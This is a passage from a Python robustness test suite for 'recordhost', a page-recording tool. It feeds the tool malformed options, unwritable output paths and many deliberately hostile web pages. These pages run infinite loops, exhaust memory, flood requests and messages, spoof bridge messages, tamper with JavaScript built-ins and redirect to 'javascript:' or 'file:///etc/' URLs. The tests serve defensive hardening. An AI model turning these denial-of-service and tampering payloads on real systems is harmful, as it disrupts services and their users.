                add(cmd, with_option(base[cmd], option, value), f"--{option}={show(value)}")
        for value in ("1", "3"):
            add(cmd, with_option(base[cmd], "room-type", value), f"--room-type={value}")
        add(cmd, with_option(with_option(base[cmd], "width", "1920"), "height", "1920"),
            "--width=1920 --height=1920")
        for option, values in STRING_BAD.items():
            for value in values:
                add(cmd, with_option(base[cmd], option, value), f"--{option}={show(value)}")
        for option in VALUE_OPTIONS[cmd]:
            argv = [a for a in base[cmd] if not (isinstance(a, str)
                                                 and a.startswith(f"--{option}="))]
            add(cmd, argv + [f"--{option}"], f"--{option} (no value)")
        for flag in ("--bogus", "-x", "--json=1", "-qx", "---", "-"):
            add(cmd, base[cmd] + [flag], flag)
        if cmd != "run":
            for option in ("record=x.mp4", "duration=5", "retry-timeout=5", "state-log=x",
                           "video-fps=15", "on-hold"):
                add(cmd, base[cmd] + ["--" + option], "--" + option + " (run's)")
            for option, value in (("har", "/nonexistent/x.har"),
                                  ("junit", "/nonexistent/j.xml"),
                                  ("snapshots", "/proc/version/x"),
                                  ("snapshots", "/dev/null")):
                add(cmd, with_option(base[cmd], option, value), f"--{option}={value}")
        else:
            for option in ("timeout=5", "har=x.har", "snapshots=x", "junit=x.xml", "flow",
                           "slow-paint-ms=5"):
                add(cmd, base[cmd] + ["--" + option], "--" + option + " (check's)")
            for value in ("/nonexistent/x.mp4", work + "/x.avi", work + "/noext", "/proc/x.mp4",
                          work, "", "/nonexistent/x.m3u8"):
                add(cmd, with_option(base[cmd], "record", value), f"--record={show(value)}")
            for value in ("/nonexistent/l", work, "/proc/version/l"):
                add(cmd, with_option(base[cmd], "state-log", value),
                    f"--state-log={show(value)}", (1, 2))
        for value in ("/nonexistent.js", work, "", "ftp://x/b.js", "http://", "javascript:x",
                      "http://x/a b.js", "http://x/\"><script>.js", "data:,x"):
            add(cmd, with_option(base[cmd], "sdk", value), f"--sdk={show(value)}")
        if cmd == "demo":
            add(cmd, base[cmd] + [page], "with a page")
        else:
            rest = base[cmd][1:]
            for pages in ([], [page, page], ["/nonexistent/page.html"], ["ftp://x/"],
                          ["javascript:alert(1)"], ["data:text/html,x"], ["about:blank"],
                          ["http://"], ["https://"], ["http://[::1"], [work], [""],
                          [b"/no\xffsuch.html"], ["/no\nsuch\x1b[2J.html"],
                          ["/" + "x" * 5000 + ".html"], ["mailto:a@b"], ["http://h:99999/"],
                          ["https://user@/x"]):
                add(cmd, pages + rest, "page " + (" ".join(show(p) for p in pages) or "missing"))
    cloud_bad = {
        "listen": ["", "foo", ":", "127.0.0.1", "127.0.0.1:", ":99999", "127.0.0.1:-1",
                   "127.0.0.1:abc", "[::1", "127.0.0.1:0:0", b"\xff:0", "\x1b:0"],
        "max-rooms": ["", "abc", "1.5", "0", "-1", "1001", "99999999999999999999",
                      b"\xff"],
        "rooms-per-web-process": ["", "abc", "0", "-1", "17", "99999999999999999999", b"\xff"],
        "require-token": [""],
    }
    for option, values in cloud_bad.items():
        for value in values:
            add("cloud", [f"--{option}=".encode() + value if isinstance(value, bytes)
                          else f"--{option}={value}"], f"--{option}={show(value)}")
    for option, value in (("listen", "999.1.1.1:0"), ("listen", "host name:80"),
                          ("listen", "192.0.2.1:0"), ("data-dir", "/proc/x"),
                          ("data-dir", "/dev/null"), ("data-dir", "/proc/version/x"),
                          ("token-file", "/nonexistent/token"), ("token-file", work)):
        add("cloud", [f"--{option}={value}"], f"--{option}={show(value)}", (1, 2))
    for extra in (["x"], ["--bogus"], ["--listen"], ["--data-dir"], ["--require-token"],
                  ["--max-rooms"], ["--token-file"], ["--allowed-host"]):
        add("cloud", extra, " ".join(extra))
    # Beyond loopback, a cloud without a token would let the network start pages.
    for listen in ("0.0.0.0:0", "[::]:0"):
        add("cloud", [f"--listen={listen}"], f"--listen={listen} without a token")
    for argv in ([], ["bogus"], ["--bogus"], [""], ["CHECK"], [b"\xff"], ["\x1b[2J"]):
        add("", argv, " ".join(show(a) for a in argv) or "no command")

    cases = []
    for i, (cmd, argv, allowed, shown) in enumerate(rows):
        name = f"options/{cmd or 'recordhost'} {shown}"
        cases.append(Case("options", name, make_option_case(probe, cmd, argv, allowed, name),
                          quick=i % 4 == 0))
    cases += output_cases(probe, base)
    cases += cloud_start_cases(probe)
    soft_options = ["app-id", "room-uuid", "user-uuid", "language", "user-agent", "rtm-token",
                    "param", "env RECORDHOST_RTM_TOKEN"]
    n = 0
    for option in soft_options:
        for value in SOFT_VALUES:
            argv = list(base["check"]) + ["--json"]
            env = None
            if option == "param":
                argv.append(b"--param=k=" + value if isinstance(value, bytes)
                            else "--param=k=" + value)
            elif option.startswith("env"):
                env = {"RECORDHOST_RTM_TOKEN": value}
                if isinstance(value, bytes):
                    env = {"RECORDHOST_RTM_TOKEN": value.decode("utf-8", "surrogateescape")}
            else:
                argv = with_option(argv, option, value)
            name = f"options/check --{option}={show(value)} (accepted or refused)"
            if option.startswith("env"):
                name = f"options/check {option}={show(value)} (accepted or refused)"
            cases.append(Case("options", name, make_soft_case(probe, argv, env, name),
                              quick=n % 6 == 0, slow=True))
            n += 1
    return cases


def output_cases(probe, base):
    """Outputs that cannot be written as asked: a FIFO or a symlink given to run, a
    directory or a name too long given to check (refused before anything is written, not
    followed: exit 2), a full disk under check (exit 1, one line naming the file)."""
    cases = []

    def fresh():
        where = Path(probe.tmpname("outputs") + ".dir")
        where.mkdir()
        return where

    def fifo(where, name):
        os.mkfifo(where / name)
        return where / name, lambda o: None if (where / name).is_fifo() else o.problem(
            f"{name} is no longer a FIFO")

    def dangling(where, name):
        os.symlink(where / ("target-" + name), where / name)
        return where / name, lambda o: o.problem(f"the symlink was followed: {name} "
                                                 f"created") if (where / ("target-" + name)) \
            .exists() else None

    def to_file(where, name):
        (where / ("target-" + name)).write_text("keep")
        os.symlink(where / ("target-" + name), where / name)
        return where / name, lambda o: o.problem(f"the symlink was followed: its target "
                                                 f"changed") if (where / ("target-" + name)) \
            .read_bytes() != b"keep" else None

    def directory(where, name):
        (where / name).mkdir()
        return where / name, lambda o: None

    def long_name(where, name):
        return where / (name[0] * 300 + "." + name.split(".")[-1]), lambda o: None

    def plain(where, name):
        return where / name, lambda o: None

    def snapshot_link(where, name):
        (where / "target").mkdir()
        os.symlink(where / "target", where / name)
        return where / name, lambda o: o.problem("snapshots written through the symlink") \
            if any((where / "target").iterdir()) else None

    def small_disk():
        # A full disk as a write sees it: EFBIG past 2 MiB, no signal. WebKit's shared
        # memory needs about that much for a 480x480 view.
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (2 << 20, 2 << 20))

    # About 4 MB of HAR: 600 requests with long URLs, refused at once.
    big_har = probe.write_page("big-har", "<!DOCTYPE html>\n<script>\nvar pad = 'x'.repeat "
                               "(10000);\nfor (var i = 0; i < 600; i++)\n  fetch ("
                               "'http://127.0.0.1:9/' + i + '?q=' + pad).catch (function () "
                               "{});\n</script>\n<script>" + READY_JS + "\nrhReady ();"
                               "</script>\n")
    full_disk = [str(big_har), "--app-id=a", "--room-uuid=r", "--room-type=4", "--timeout=10",
                 "-q", "--paint-grace-ms=0", "--width=480", "--height=480"]

    rows = [("run", "record", "x.mp4", fifo, {2}, None, "a FIFO"),
            ("run", "state-log", "events.log", fifo, {2}, None, "a FIFO"),
            ("run", "record", "x.mp4", dangling, {2}, None, "a symlink to nothing"),
            ("run", "record", "x.mp4", to_file, {2}, None, "a symlink to a file"),
            ("run", "state-log", "events.log", dangling, {2}, None, "a symlink to nothing"),
            ("run", "state-log", "events.log", to_file, {2}, None, "a symlink to a file"),
            ("check", "har", "x.har", directory, {2}, None, "a directory"),
            ("check", "junit", "x.xml", directory, {2}, None, "a directory"),
            ("check", "har", "h.har", long_name, {2}, None, "a 300-character name"),
            ("check", "junit", "j.xml", long_name, {2}, None, "a 300-character name"),
            ("check", "har", "x.har", plain, {1}, small_disk, "on a full disk"),
            ("check", "snapshots", "shots", snapshot_link, {1, 2}, None,
             "a symlink to a directory")]
    for cmd, option, file, make, allowed, preexec, label in rows:
        name = f"options/{cmd} --{option}={label}"

        def case(cmd=cmd, option=option, file=file, make=make, allowed=allowed,
                 preexec=preexec, name=name):
            o = Outcome("options", name)
            path, after = make(fresh(), file)
            argv = [cmd] + with_option(full_disk if preexec else base[cmd], option, str(path))
            bound = 20
            run = probe.proc(argv, name="outputs", preexec=preexec).finish(bound * probe.scale)
            o.repro = probe.command(run) + ("   # under ulimit -f 2048, SIGXFSZ ignored"
                                            if preexec else "")
            rc = judge(o, run, bound=bound)
            expect_status(o, rc, allowed)
            if rc in allowed:
                expect_one_line(o, run, f"recordhost {cmd}:")
                line = stderr_before_report(run).decode("utf-8", "replace")
                if option != "snapshots" and path.name[:40] not in line:
                    o.problem(f"the error does not name {path.name[:40]!r}: {line[:160]!r}")
            after(o)
            return [o]
        cases.append(Case("options", name, case, quick=True, slow=True))
    return cases


def cloud_start_cases(probe):
    """Clouds that must start: beyond loopback with a token or with --insecure-no-token."""
    cases = []
    token_file = probe.workdir / "start-token"
    for argv, env, label in (
            (["--listen=0.0.0.0:0", "--insecure-no-token"], None, "--insecure-no-token"),
            (["--listen=0.0.0.0:0", "--require-token=probe-start-token"], None,
             "--require-token"),
            (["--listen=0.0.0.0:0"], {"RECORDHOST_CLOUD_TOKEN": "probe-start-token"},
             "RECORDHOST_CLOUD_TOKEN"),
            (["--listen=0.0.0.0:0", f"--token-file={token_file}"], None, "--token-file")):
        name = f"options/cloud --listen=0.0.0.0:0 with {label}: starts"

        def case(argv=argv, env=env, name=name):
            o = Outcome("options", name)
            token_file.write_text("probe-start-token\n")
            data_dir = Path(probe.tmpname("cloud-start") + ".data")
            full = ["cloud", f"--data-dir={data_dir}"] + argv
            proc = probe.proc(full, env=env, name="cloud-start")
            url = proc.first_line(20 * probe.scale)
            run = proc.finish(0)
            o.repro = probe.command(run)
            if not url:
                judge(o, run)
                o.problem("did not start: " + stderr_before_report(run).decode(
                    "utf-8", "replace").strip()[:200])
            return [o]
        cases.append(Case("options", name, case, quick=True))
    return cases


def make_option_case(probe, cmd, argv, allowed, name):
    def case():
        o = Outcome("options", name)
        full = ([cmd] if cmd else []) + list(argv)
        prefix = f"recordhost {cmd}:" if cmd else "recordhost"
        if cmd == "cloud":
            return [cloud_option_case(probe, o, full, allowed, prefix)]
        bound = 20
        run = probe.run(full, bound, name="options")
        o.repro = probe.command(run)
        rc = judge(o, run, bound=bound)
        if full == ["help"]:
            expect_status(o, rc, {0})
            return [o]
        expect_status(o, rc, allowed)
        if rc in allowed and not (full == [] and rc == 2):
            expect_one_line(o, run, prefix)
        if rc == 2 and run.out.strip() and full != []:
            o.problem(f"stdout not empty on a usage error: {run.out[:80]!r}")
        return [o]
    return case


def cloud_option_case(probe, o, full, allowed, prefix):
    # The defaults first: an option missing its value must stay the last word.
    data_dir = Path(probe.tmpname("cloud-options") + ".data")
    given = [a if isinstance(a, bytes) else a.encode() for a in full[1:]]
    defaults = []
    if not any(a.startswith(b"--data-dir") for a in given):
        defaults.append(f"--data-dir={data_dir}")
    if not any(a.startswith(b"--listen") for a in given):
        defaults.append("--listen=127.0.0.1:0")
    full = full[:1] + defaults + full[1:]
    proc = probe.proc(full, name="cloud-options")
    exited = proc.wait(5 * probe.scale)
    url = None
    if not exited:
        url = proc.first_line(0.1)
    run = proc.finish(0)
    o.repro = probe.command(run)
    if not exited:
        if url:
            o.problem(f"accepted: the cloud started and listened on {url} (killed)")
        else:
            o.hang = "still running after 5 s without listening: killed"
        return o
    rc = judge(o, run)
    expect_status(o, rc, allowed)
    if rc in allowed:
        expect_one_line(o, run, prefix)
    return o


def make_soft_case(probe, argv, env, name):
    """A strange but maybe valid value: refused in one line, or a clean check."""
    def case():
        o = Outcome("options", name)
        bound = 25
        run = probe.run(argv and ["check"] + list(argv), bound, env=env, name="soft")
        o.repro = probe.command(run)
        rc = judge(o, run, bound=bound)
        expect_status(o, rc, {0, 1, 2})
        if rc == 2:
            expect_one_line(o, run, "recordhost check:")
        elif rc in (0, 1):
            report = parse_report(o, run)
            if report is not None and report.get("exit_status") != rc:
                o.problem(f"report says exit_status {report.get('exit_status')}, exited {rc}")
            check_printable(o, stderr_before_report(run), "stderr")
        return [o]
    return case


# ---------------------------------------------------------------------------------------
# 2. hostile pages


READY_JS = """
var H = window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.%s;
function rhReady () {
  window.AgoraEduSDK = { config: function () {}, launch: function (el, o) {
    setTimeout (function () { o.listener (1, {}); }, 50); return function () {}; } };
  window.AgoraEduSDK.launch (document.body, { listener: function () {} });
}
""" % HANDLER

CONTROL_TEXTS = {
    "c0": "".join(chr(i) for i in range(1, 32)),
    "nul": "\x00a\x00b",
    "del": "a\x7fb",
    "c1": "".join(chr(i) for i in range(0x80, 0xA0)),
    "bidi": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f",
    "line-separators": "a\u2028b\u2029c\x85d",
    "escape-sequences": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1bP\x1b\\\x9b31m",
    "lone-surrogates": "\ud800 \udfff x\udbff",
    "noncharacters": "\ufffe\uffff\ufdd0\U0010ffff",
}


def js_string(text):
    return json.dumps(text, ensure_ascii=True)


def page_list():
    """(name, script, ready, options): the script runs first; when @ready, a second
    script then launches a stand-in SDK that reports event 1 at once."""
    pages = []

    def add(name, js, ready=True, quick=False, **options):
        pages.append((name, js, ready, quick, options))

    msg = "H.postMessage ('{\"kind\":\"console\",\"level\":\"log\",\"text\":\"deep\",\"x\":' + "
    for n in (31, 32, 33, 1000, 100000, 1000000):
        add(f"bridge-deep-array-{n}", msg + f"'['.repeat ({n}) + ']'.repeat ({n}) + '}}');",
            quick=n == 1000000)
    for n in (33, 100000):
        add(f"bridge-deep-object-{n}",
            msg + f"'{{\"a\":'.repeat ({n}) + '1' + '}}'.repeat ({n}) + '}}');")
    for size in (256 * 1024 - 64, 256 * 1024, 256 * 1024 + 1, 16 << 20, 64 << 20):
        add(f"bridge-size-{size}",
            "H.postMessage ('{\"kind\":\"console\",\"level\":\"log\",\"text\":\"' + "
            f"'x'.repeat ({size}) + '\"}}');", quick=size == 16 << 20)
    for i, text in enumerate(['{"kind":', '', 'null', '[]', '"str"', '1e999', '{"kind":null}',
                              '{"kind":["console"]}', '{"kind":"console","level":{},"text":[]}',
                              '{"kind":"console","text":"\\ud800"}']):
        add(f"bridge-not-json-{i}", f"H.postMessage ({js_string(text)});")
    # A string JavaScript holds but UTF-8 cannot: a lone surrogate.
    add("bridge-lone-surrogate", f"H.postMessage ({js_string(chr(0xD800))});", quick=True)
    text = '{"kind":"console","level":"log","text":"' + chr(0xDC00) + '"}'
    add("bridge-lone-surrogate-in-json", f"H.postMessage ({js_string(text)});")
    for name, js in {
        "undefined": "H.postMessage (undefined);",
        "number": "H.postMessage (1e308);",
        "object": "H.postMessage ({ kind: 'console', level: 'log', text: 'object' });",
        "cyclic": "const o = { kind: 'console' }; o.self = o; H.postMessage (o);",
        "arraybuffer": "H.postMessage (new ArrayBuffer (10 << 20));",
        "deep": "let v = 1; for (let i = 0; i < 10000; i++) v = [v]; H.postMessage (v);",
        "big-array": "H.postMessage (new Array (1000000).fill (7));",
        "symbol": "H.postMessage (Symbol ('x'));",
        "function": "H.postMessage (function () {});",
        "getter-throws": "H.postMessage ({ get kind () { throw new Error ('getter'); } });",
        "proxy": "H.postMessage (new Proxy ({}, { get () { throw 1; }, ownKeys () { throw 2; },"
                 " getPrototypeOf () { throw 3; } }));",
    }.items():
        add(f"bridge-js-{name}", js, quick=name == "cyclic")
    garbage = ("id: -1, status: 'x', event: { a: [1] }, args: 'x', level: 5, text: 123, "
               "url: null, line: 'x', column: -1e308, message: [], source: {}, type: {}, "
               "features: 'x', names: 7, tag: 1, api: [], method: {}, routed_to: 5, "
               "error: {}, version: [], launch_options: 'x', thenable: 'yes', stack: 9, "
               "capabilities: 3, detail: null, ms: 'x'")
    for kind in ("capabilities", "console", "dom-content-loaded", "error", "event", "launch",
                 "launch-result", "launch-then", "notify", "param-missing", "rejection",
                 "request", "resource-error", "response", "sdk", "service-worker", "touch",
                 "user-agent-read", "webrtc-standin", "made-up"):
        add(f"bridge-spoof-{kind}",
            f"H.postMessage (JSON.stringify ({{ kind: '{kind}', {garbage} }}));",
            quick=kind == "request")
    add("bridge-spoof-request-flood",
        "for (let i = 0; i < 100000; i++) { H.postMessage (JSON.stringify ({ kind: 'request', "
        "id: i, api: 'fetch', method: 'GET', url: 'http://flood.invalid/' + i })); "
        "H.postMessage (JSON.stringify ({ kind: 'response', id: i, status: 200 })); }",
        quick=True)
    add("bridge-spoof-response-unknown",
        "for (let i = 0; i < 10000; i++) H.postMessage (JSON.stringify ({ kind: 'response', "
        "id: 1e9 + i, status: i }));")
    add("bridge-spoof-event-flood",
        "for (let i = 0; i < 100000; i++) H.postMessage (JSON.stringify ({ kind: 'event', "
        "event: i % 7, args: { i: i } }));")
    add("bridge-spoof-launch-flood",
        "for (let i = 0; i < 10000; i++) H.postMessage (JSON.stringify ({ kind: 'launch' }));")
    add("bridge-spoof-capabilities-huge",
        "const c = {}; for (let i = 0; i < 100000; i++) c['f' + i] = true; "
        "H.postMessage (JSON.stringify ({ kind: 'capabilities', capabilities: c }));")
    add("bridge-spoof-param-missing-flood",
        "for (let i = 0; i < 100000; i++) H.postMessage (JSON.stringify ({ kind: "
        "'param-missing', name: 'p' + i }));")
    for n in (100000, 1000000):
        add(f"bridge-flood-{n}",
            f"for (let i = 0; i < {n}; i++) H.postMessage ('{{\"kind\":\"console\","
            "\"level\":\"log\",\"text\":\"f' + i + '\"}');")

    for n in (10000, 100000, 1000000):
        add(f"console-flood-{n}", f"for (let i = 0; i < {n}; i++) console.log ('flood ' + i);",
            quick=n == 100000)
    for name, js in {
        "1MB-x100": "const big = 'y'.repeat (1 << 20); for (let i = 0; i < 100; i++) "
                    "console.log (big);",
        "deep-object": "let v = {}; for (let i = 0; i < 100000; i++) v = { v: v }; "
                       "console.log (v);",
        "cyclic": "const o = {}; o.o = o; console.log (o, [o, [o]]);",
        "proxy": "console.log (new Proxy ({}, { get () { throw new Error ('trap'); }, "
                 "ownKeys () { throw new Error ('keys'); }, getPrototypeOf () { "
                 "throw new Error ('proto'); } }));",
        "getter-throws": "console.log ({ get x () { throw new Error ('getter'); } });",
        "tostring-throws": "console.log ({ toString () { throw 1; }, toJSON () { throw 2; } }, "
                           "Symbol ('s'), 10n);",
        "10k-args": "console.log.apply (console, new Array (10000).fill ('a'));",
        "all-levels": "for (const l of ['log', 'info', 'warn', 'error', 'debug', 'trace', "
                      "'dir', 'table', 'count', 'group', 'groupEnd', 'time', 'timeEnd']) "
                      "for (let i = 0; i < 1000; i++) console[l] ('level ' + l + i);",
        "assert-flood": "for (let i = 0; i < 100000; i++) console.assert (false, 'a' + i);",
    }.items():
        add(f"console-{name}", js, quick=name == "proxy")

    for cls, text in CONTROL_TEXTS.items():
        literal = js_string("ctl " + text)
        add(f"control-{cls}-console", f"console.log ({literal}); console.error ("
            f"{{ [{literal}]: {literal} }});", quiet=False, quick=cls == "escape-sequences")
        add(f"control-{cls}-throw", f"throw new Error ({literal});", quiet=False)
        add(f"control-{cls}-reject", f"Promise.reject (new Error ({literal}));", quiet=False,
            quick=cls == "lone-surrogates")

    for name, js in {
        "string": "throw 'plain string';",
        "null": "throw null;",
        "symbol": "throw Symbol ('s');",
        "object-tostring-throws": "throw { toString () { throw new Error ('again'); }, "
                                  "get message () { throw 1; } };",
        "10MB-message": "throw new Error ('m'.repeat (10 << 20));",
        "interval": "setInterval (function () { throw new Error ('tick'); }, 1);",
        "reject-flood": "for (let i = 0; i < 100000; i++) Promise.reject (new Error ('r' + i));",
        "stack-overflow": "(function f () { f (); }) ();",
        "cyclic-cause": "const e = new Error ('c'); e.cause = e; e.self = e; throw e;",
        "proxy": "throw new Proxy (new Error ('p'), { get () { throw new Error ('trap'); } });",
        "onerror-throws": "window.onerror = function () { throw new Error ('again'); }; "
                          "throw new Error ('first');",
        "listener-throws": "window.addEventListener ('error', function () { "
                           "throw new Error ('listener'); }); throw new Error ('first');",
        "huge-stack": "const e = new Error ('x'); Object.defineProperty (e, 'stack', "
                      "{ value: 's'.repeat (10 << 20) }); throw e;",
        "stack-getter-throws": "const e = new Error ('x'); Object.defineProperty (e, 'stack', "
                               "{ get () { throw new Error ('stack'); } }); throw e;",
    }.items():
        add(f"throw-{name}", js, quick=name in ("interval", "reject-flood"))

    loops = {
        "sync": "while (true) {}",
        "timeout": "setTimeout (function () { while (true) {} }, 100);",
        "after-ready": "rhReady (); setTimeout (function () { for (;;) {} }, 400);",
        "microtask": "(function f () { Promise.resolve ().then (f); }) ();",
        "raf": "function f () { const t = Date.now (); while (Date.now () - t < 1000) {} "
               "requestAnimationFrame (f); } f ();",
        "in-listener": "window.AgoraEduSDK = { launch (el, o) { setTimeout (function () { "
                       "o.listener (1, {}); for (;;) {} }, 50); } }; "
                       "AgoraEduSDK.launch (document.body, { listener () {} });",
        "console": "for (let i = 0; ; i++) console.log ('loop ' + i);",
        "dialogs": "for (;;) { alert ('a'); confirm ('c'); prompt ('p'); print (); }",
        "beforeunload-reload": "window.onbeforeunload = function () { return 'stay'; }; "
                               "setTimeout (function () { location.reload (); }, 50);",
        "pagehide": "window.addEventListener ('pagehide', function () { for (;;) {} }); "
                    "setTimeout (function () { location.reload (); }, 50);",
    }
    # A page in a loop ends the check by its --timeout (1 s to spare), engine included.
    for name, js in loops.items():
        add(f"loop-{name}", js, ready=False, quick=name == "sync", bounded=True)
    add("loop-worker", "new Worker (URL.createObjectURL (new Blob (['for (;;) {}'])));",
        bounded=True)
    for t in (1, 3, 10):
        add(f"loop-sync-timeout-{t}", "while (true) {}", ready=False, timeout=t, quick=t == 1,
            bounded=True)
    # --page-memory bounds a page that allocates without end: the check fails.
    for where, js in (("page", "const keep = []; setInterval (function () { for (let i = 0; "
                               "i < 4; i++) keep.push (new Float64Array (1 << 19).fill (i)); "
                               "}, 50);"),
                      ("worker", "new Worker (URL.createObjectURL (new Blob (['const keep = "
                                 "[]; setInterval (function () { for (let i = 0; i < 4; i++) "
                                 "keep.push (new Float64Array (1 << 19).fill (i)); }, 50);'])));"
                       )):
        add(f"memory-without-end-in-{where}", js, ready=False, timeout=20, quick=True,
            page_memory=256)

    redirects = {
        "reload": "location.reload ();",
        "replace-self": "location.replace (location.href);",
        "counter": "const u = new URL (location.href); u.searchParams.set ('n', "
                   "Number (u.searchParams.get ('n') || 0) + 1); location.href = u.href;",
        "missing": "location.href = 'missing-file.html';",
        "javascript": "location.href = 'javascript:while(true){}';",
        "data": "location.href = 'data:text/html,<script>for(;;){}</script>';",
        "about-blank": "location.href = 'about:blank';",
        "refused": "location.href = 'http://127.0.0.1:9/';",
        "etc": "location.href = 'file:///etc/';",
        "form-submit": "document.body.innerHTML = '<form id=f></form>'; "
                       "document.getElementById ('f').submit ();",
    }
    for name, js in redirects.items():
        add(f"redirect-{name}", js, ready=False, quick=name == "counter")
    add("redirect-meta-refresh", "", ready=False, head='<meta http-equiv="refresh" content="0">')
    add("redirect-pushstate-flood",
        "for (let i = 0; i < 100000; i++) history.pushState ({}, '', '?p=' + i);")
    add("redirect-pushstate-huge", "history.pushState ({}, '', '?' + 'q'.repeat (2 << 20));")
    add("redirect-hash-flood", "for (let i = 0; i < 100000; i++) location.hash = i;")
    add("redirect-window-open-flood",
        "for (let i = 0; i < 1000; i++) window.open (location.href + '&w=' + i);")
    add("redirect-iframe-recursive", "const f = document.createElement ('iframe'); "
        "f.src = location.href; document.body.appendChild (f);")

    for name, js in {
        "100k-divs": "document.body.innerHTML = '<div>x</div>'.repeat (100000);",
        "1M-divs": "document.body.innerHTML = '<div>x</div>'.repeat (1000000);",
        "nested-10k": "document.body.innerHTML = '<div>'.repeat (10000) + "
                      "'</div>'.repeat (10000);",
        "nested-100k": "document.body.innerHTML = '<div>'.repeat (100000) + "
                       "'</div>'.repeat (100000);",
        "text-50MB": "document.body.textContent = 't'.repeat (50 << 20);",
        "canvas-huge": "const c = document.createElement ('canvas'); c.width = 16384; "
                       "c.height = 16384; c.getContext ('2d').fillRect (0, 0, 16384, 16384); "
                       "document.body.appendChild (c);",
        "title-10MB": "document.title = 'T'.repeat (10 << 20);",
        "css-100k-rules": "const s = document.createElement ('style'); s.textContent = "
                          "Array.from ({ length: 100000 }, (_, i) => '.c' + i + "
                          "'{color:red}').join (''); document.head.appendChild (s);",
        "animate-10k": "document.body.innerHTML = '<style>@keyframes k{to{transform:"
                       "rotate(1turn)}}div{animation:k 1s infinite}</style>' + "
                       "'<div>x</div>'.repeat (10000);",
        "document-write-flood": "for (let i = 0; i < 100000; i++) "
                                "document.write ('<p>' + i + '</p>');",
        "webgl-contexts": "for (let i = 0; i < 200; i++) "
                          "document.createElement ('canvas').getContext ('webgl');",
    }.items():
        add(f"dom-{name}", js, quick=name == "1M-divs")

    for name, js in {
        "fetch-flood": "for (let i = 0; i < 10000; i++) fetch ('http://127.0.0.1:9/f' + i)"
                       ".catch (function () {});",
        "xhr-flood": "for (let i = 0; i < 5000; i++) { const x = new XMLHttpRequest (); "
                     "x.open ('GET', 'http://127.0.0.1:9/x' + i); x.send (); }",
        "websocket-flood": "for (let i = 0; i < 1000; i++) "
                           "new WebSocket ('ws://127.0.0.1:9/w' + i);",
        "image-flood": "for (let i = 0; i < 10000; i++) new Image ().src = "
                       "'http://127.0.0.1:9/i' + i + '.png';",
        "beacon-flood": "for (let i = 0; i < 10000; i++) "
                        "navigator.sendBeacon ('http://127.0.0.1:9/b' + i, 'x');",
        "eventsource-flood": "for (let i = 0; i < 500; i++) "
                             "new EventSource ('http://127.0.0.1:9/e' + i);",
        "fetch-huge-url": "fetch ('http://127.0.0.1:9/?' + 'u'.repeat (2 << 20))"
                          ".catch (function () {});",
        "fetch-bad-method": "for (const m of ['G\\u0000T', 'CONNECT', 'TRACE', 'x'.repeat "
                            "(100000)]) try { fetch ('http://127.0.0.1:9/', { method: m })"
                            ".catch (function () {}); } catch (e) {}",
    }.items():
        add(f"network-{name}", js, quick=name == "fetch-flood")

    for name, js in {
        "array-proto": "for (const m of ['slice', 'map', 'join', 'push', 'indexOf', 'pop', "
                       "'forEach']) Array.prototype[m] = function () { throw new Error ("
                       "'tampered ' + m); }; console.log ({ a: [1, 2] }, [3]); "
                       "Promise.reject (new Error ('after'));",
        "object-keys": "Object.keys = function () { throw new Error ('keys'); }; "
                       "console.log ({ a: 1 });",
        "string-proto": "String.prototype.slice = function () { return 'S'.repeat (1 << 22); "
                        "}; String.prototype.split = function () { return new Array (1e6)"
                        ".fill ('s'); }; console.log ('x'.repeat (5000)); "
                        "Promise.reject (new Error ('y'));",
        "json": "JSON.stringify = function () { return '{\"kind\":\"event\",\"event\":1}'; }; "
                "console.log ({ a: 1 });",
        "error-proto": "Object.defineProperty (Error.prototype, 'message', { get () { "
                       "throw new Error ('m'); } }); Object.defineProperty (Error.prototype, "
                       "'stack', { get () { throw new Error ('s'); } }); "
                       "Promise.reject (new Error ('x'));",
        "handler-muted": "H.postMessage = function () {}; console.log ('muted');",
        "webkit-replaced": "try { delete window.webkit; } catch (e) {} window.webkit = { "
                           "messageHandlers: { recordhost: { postMessage () { "
                           "throw new Error ('x'); } } } }; console.log ('replaced');",
        "string-global": "window.String = function () { return 'x'.repeat (1e6); }; "
                         "console.log ({ a: Symbol () }, 1n);",
        "defineproperty": "Object.defineProperty = function () { throw new Error ('dp'); }; "
                          "Reflect.defineProperty = Object.defineProperty;",
    }.items():
        add(f"tamper-{name}", js, quick=name == "string-proto")

    launch = "window.AgoraEduSDK = { launch (el, o) { setTimeout (function () { %s }, 50); " \
             "return function () {}; } }; AgoraEduSDK.launch (document.body, " \
             "{ listener () {} });"
    for name, js in {
        "getter-throws": "Object.defineProperty (window, 'AgoraEduSDK', { get () { "
                         "throw new Error ('no sdk'); }, configurable: false });",
        "proxy": "window.AgoraEduSDK = new Proxy ({}, { get () { throw new Error ('trap'); }, "
                 "set () { throw 1; }, has () { throw 2; }, getOwnPropertyDescriptor () { "
                 "throw 3; }, defineProperty () { throw 4; }, ownKeys () { throw 5; } });",
        "launch-throws": "window.AgoraEduSDK = { launch () { throw new Error ('launch'); } }; "
                         "AgoraEduSDK.launch ();",
        "listener-flood": launch % "for (let i = 0; i < 100000; i++) o.listener (i ? i % 9 : 1,"
                                   " { i: i });",
        "listener-huge-args": launch % "o.listener (1, { big: 'z'.repeat (10 << 20) });",
        "listener-cyclic": launch % "const a = {}; a.a = a; o.listener (1, a);",
        "listener-deep": launch % "let v = {}; for (let i = 0; i < 100000; i++) v = { v: v }; "
                                  "o.listener (1, v);",
        "listener-proxy-args": launch % "o.listener (1, new Proxy ({}, { get () { throw 1; }, "
                                        "ownKeys () { throw 2; } }));",
        "listener-garbage": launch % "for (const e of [NaN, {}, '1', 10n, Symbol (), null, "
                                     "-0, 1e308]) try { o.listener (e, e); } catch (x) {} "
                                     "o.listener (1, {});",
        "launch-returns-proxy": "window.AgoraEduSDK = { launch (el, o) { setTimeout (function "
                                "() { o.listener (1, {}); }, 50); return new Proxy ({}, { get "
                                "() { throw 1; }, getPrototypeOf () { throw 2; } }); } }; "
                                "AgoraEduSDK.launch (document.body, { listener () {} });",
        "launch-returns-bad-thenable": "window.AgoraEduSDK = { launch (el, o) { setTimeout ("
                                       "function () { o.listener (1, {}); }, 50); return { "
                                       "get then () { throw new Error ('then'); } }; } }; "
                                       "AgoraEduSDK.launch (document.body, { listener () {} });",
        "launch-options-proxy": "window.AgoraEduSDK = { launch (el, o) { setTimeout (function "
